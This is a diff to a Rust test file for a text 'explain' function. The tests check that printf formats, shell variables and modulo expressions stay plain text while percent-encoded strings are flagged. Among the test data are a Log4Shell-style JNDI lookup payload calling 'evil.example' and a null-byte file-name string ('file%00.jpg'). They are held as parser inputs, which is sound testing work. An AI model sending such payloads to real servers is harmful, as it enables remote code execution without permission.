@@ -57,12 +57,42 @@ fn formats_are_plain_text_first() {
         "@echo off\nset X=%~dp0%1\necho %DATE% %CD%",
         "%d items, %20s",
         "50%de Rabatt",
+        // Formats, also after a word, with `%%`, and with the number of an argument.
+        "IMG_%d%02d.jpg",
+        "ffmpeg -i in.mp4 frame%03d.png",
+        "/frames/img_%03d.png",
+        "awk '{printf \"%d%%20\\n\",$1}'",
+        "%1$s %2$d %%20",
+        "i = printf(\"vrai : %20%20%20%d|\", 10);",
+        "git log --format=%ad%ae%b",
+        // The remainder of a division, percentages and units, a lone octet between words.
+        "if i%20 == 0: print(i)",
+        "a = b%c5",
+        "kernel: CPU0: 25% idle 75%user 20%41",
+        "80%AB blood",
+        "the %af thing",
     ] {
         let explanation = explain(text);
         assert_eq!(explanation.root().kind, Kind::Plain, "{text}");
         assert!(explanation.root().children.iter().all(|child| child.is_likely), "{text}");
     }
-    for text in ["%2f", "a%20b", "caf%C3%A9 %d", "100%25", "50%20off", "%C3%A9", "%2Fa%5d"] {
+    for text in [
+        "%2f",
+        "a%20b",
+        "caf%C3%A9 %d",
+        "100%25",
+        "50%20off",
+        "%C3%A9",
+        "%2Fa%5d",
+        "file%00.jpg",
+        "2%%20Reduced%20Fat%20Milk",
+        "caf%E9 au lait",
+        "%E0 la plage",
+        "50%20off today",
+        "20%B0C today",
+        "name = caf%E9",
+        "Progress 12%0A done",
+    ] {
         assert_eq!(explain(text).root().kind, Kind::Encoded, "{text}");
     }
 }
@@ -94,6 +124,7 @@ fn what_is_encoded_beside_an_address() {
             &["https://a.example/", "20%20"],
         ),
         ("echo %DATE% %~dp0%1 https://a.example/ LIKE '%abc%'", &["https://a.example/"]),
+        ("index=web path=\"/a%20b/*\" | where like(uri,\"%admin%\")", &["/a%20b/*"]),
         ("GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1", &["/?x=${jndi:ldap://evil.example/a}"]),
     ] {
         let explanation = explain(text);
